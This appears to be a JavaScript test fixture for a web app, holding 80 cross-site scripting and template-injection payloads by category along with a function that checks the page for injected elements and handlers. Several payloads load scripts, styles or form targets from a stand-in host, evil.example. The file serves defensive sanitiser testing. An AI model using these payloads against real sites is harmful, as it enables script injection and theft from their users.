/**
 * What people write who want a page to run it: 80 texts, each of which would do something somewhere if it became markup,
 * a link, a template or a script. `planted` finds what only such a text could have put into a document.
 */

const PAYLOADS = {
  scripts: [
    '<script>alert(1)</script>',
    '<ScRiPt>alert(2)</sCrIpT>',
    '<script src=//evil.example/x.js></script>',
    '<script>window.pwned=1</script>',
    '<script type=module>alert(1)</script>',
    '<script/x>alert(1)</script>',
    '</script><script>alert(1)</script>',
    '<<script>alert(1);//<</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
  elements: [
    '<img src=x onerror=alert(1)>',
    '<img src=x onerror="window.pwned=1">',
    '<img/src=x/onerror=alert(1)>',
    '<img src=//evil.example/pixel.png>',
    '<img src=`x`onerror=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)>',
    '<body onload=alert(1)>',
    '<iframe src=javascript:alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data=javascript:alert(1)>',
    '<embed src=javascript:alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<input autofocus onfocus=alert(1) id=planted>',
    '<select autofocus onfocus=alert(1)>',
    '<textarea autofocus onfocus=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<div onpointerrawupdate=alert(1) class=planted>x</div>',
    '<b id=planted class=planted>bold</b>',
    '<dialog open id=planted>hello</dialog>',
    '<x contenteditable onblur=alert(1)>x</x>',
    '<button popovertarget=p onclick=alert(1)>x</button>',
  ],
  svg: [
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set onbegin=alert(1)>',
    '<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>',
    '<svg><a href=javascript:alert(1)><text y=9>x</text></a></svg>',
    '<svg><foreignObject><img src=x onerror=alert(1)>',
    '<svg><image href=//evil.example/x.svg>',
  ],
  links: [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(2)',
    'javascript://%0aalert(1)',
    '<a href=javascript:alert(1) id=planted>x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '[x](javascript:alert(1))',
    '![x](//evil.example/x.png)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    '<base href=//evil.example/>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<link rel=prefetch href=//evil.example/x>',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    '<form action=//evil.example/ id=planted><button>x</button></form>',
    'vbscript:msgbox(1)',
  ],
  attributes: [
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '`-alert(1)-`',
    '" id="planted" class="planted',
    "');alert(1);//",
    '"-alert(1)-"',
    '\\"-alert(1)}//',
    '" style="position:fixed;inset:0;background:red',
  ],
  mutations: [
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<svg><style><img src="</style><img src=x onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<template><img src=x onerror=alert(1)></template>',
    '<style>@import "//evil.example/x.css";*{display:none}</style>',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>">',
  ],
  templates: [
    '{{constructor.constructor("alert(1)")()}}',
    '${alert(1)}',
    '<%= alert(1) %>',
    '#{alert(1)}',
    '__proto__',
    'constructor',
    '&lt;img src=x onerror=alert(1)&gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
  ],
};

export const payloads = Object.values(PAYLOADS).flat();

/** The rules for the names of rooms and guests leave these. */
export const nameable = payloads.filter((text) => [...text].length <= 64);

/** Run inside the page: elements and marks that the page itself never makes. */
export function planted() {
  const foreign = 'img, iframe, object, embed, video, audio, math, marquee, base, frame, style, meta[http-equiv], script:not([src="app.js"]), #planted, .planted, '
    + 'a[href^="javascript" i], form[action], [contenteditable], [popovertarget], link[href*="evil"], dialog';
  const found = [...document.querySelectorAll(foreign)].map((node) => node.outerHTML.slice(0, 100));
  for (const node of document.querySelectorAll('*')) {
    for (const { name } of node.attributes) if (/^on/i.test(name)) found.push(`${node.localName} has ${name}`);
  }
  if (Object.hasOwn(window, 'pwned')) found.push('window.pwned');
  return found;
}
